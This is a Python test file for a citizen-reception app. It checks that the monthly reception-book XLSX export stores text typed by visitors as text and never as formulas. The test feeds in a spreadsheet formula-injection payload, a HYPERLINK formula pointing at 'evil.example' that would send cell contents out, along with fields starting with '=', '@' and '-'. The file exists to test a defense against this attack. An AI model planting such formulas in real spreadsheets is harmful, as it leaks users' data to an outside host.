"""The reception book's XLSX (/tiep-nhan/so.xlsx) as the desk downloads it: citizen-typed text never becomes a
formula; columns (10) and (11) are those of Mẫu số 03/TCD (SQLite and PostgreSQL)."""
from __future__ import annotations

from datetime import date
from io import BytesIO

import pytest
from factories import NOW
from openpyxl import load_workbook
from web.conftest import Browser

from dvflow.services.reception import visits

from .helpers import make_session, visit

FIRST_ROW = 9  # the heading, two header rows and the row of column numbers above the entries


@pytest.fixture
def book(app, org):
    """The XLSX of November 2026 of the department, downloaded by its reception officer: its active sheet."""
    def _book():
        b = Browser(app.test_client())
        b.login("reception")
        resp = b.get(f"/tiep-nhan/so.xlsx?thang=2026-11&don_vi={org['dept'].id}")
        assert resp.status_code == 200
        return load_workbook(BytesIO(resp.data)).active
    return _book


def record(session, workflows, org, rules, rs, **kw):
    return visits.record(session, workflows, rules, org["users"]["reception"], rs.id, visit(**kw), NOW)


def test_a_visitor_typed_formula_stays_text(session, workflows, org, rules, book):
    rs = make_session(session, org["dept"], day=date(2026, 11, 20))
    name, summary = '=HYPERLINK("http://evil.example/"&B9,"Nguyễn Văn A")', "=1+1"
    record(session, workflows, org, rules, rs, citizen_name=name, summary=summary, address="@Phố A",
           prior_resolver="-UBND xã", content_type="petition")
    ws = book()
    assert not [(c.coordinate, c.value) for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert ws.cell(row=FIRST_ROW, column=3).value == f"{name}, @Phố A"
    assert ws.cell(row=FIRST_ROW, column=5).value == summary and ws.cell(row=FIRST_ROW, column=8).value == "-UBND xã"
